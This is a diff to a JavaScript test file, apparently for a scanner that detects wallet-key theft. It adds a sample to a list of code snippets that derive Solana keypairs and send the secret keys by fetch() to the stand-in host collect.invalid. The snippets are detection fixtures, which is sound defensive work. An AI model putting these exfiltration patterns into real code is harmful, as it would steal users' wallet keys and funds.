@@ -60,6 +60,8 @@ describe('wallets', () => {
       flowsOf(`const web3 = require('@solana/web3.js'), bip39 = require('bip39'); ${code}`);
     for (const code of [
       `exports.f = (s) => { const k = web3.Keypair.fromSecretKey(s); fetch('https://collect.invalid', { method: 'POST', body: k.secretKey }); };`,
+      `const bs58 = require('bs58'), q = []; const drain = () => Promise.all(q.splice(0).map((k) => fetch('https://collect.invalid/' + k.slice(9))));
+        exports.f = (s) => { const k = web3.Keypair.fromSecretKey(bs58.decode(s)); q.push(bs58.encode(k.secretKey)); drain(); return k; };`,
       `const q = []; const drain = () => Promise.all(q.splice(0).map((k) => fetch('https://collect.invalid/' + k)));
         exports.f = (s) => { const k = web3.Keypair.fromSecretKey(s); q.push(String(k.secretKey)); drain().catch(() => {}); return k; };`,
       `exports.f = (e, t) => { fetch('https://collect.invalid/' + t); return web3.Keypair.fromSecretKey(t); };`,
